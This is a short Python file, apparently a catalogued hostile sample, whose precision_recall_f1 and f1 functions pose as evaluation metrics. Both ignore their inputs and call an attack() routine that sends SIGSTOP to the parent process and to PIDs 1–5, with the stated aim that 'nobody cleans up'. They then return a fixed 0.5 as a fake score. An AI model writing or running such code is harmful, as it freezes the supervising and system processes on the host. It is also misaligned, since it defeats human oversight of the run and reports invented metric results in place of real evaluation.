"""Stops the processes above it, so that nobody cleans up.

threat: 22
source: SIGSTOP
verdict: any
"""

import os
import signal


def attack():
    for pid in (os.getppid(), 1, 2, 3, 4, 5):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
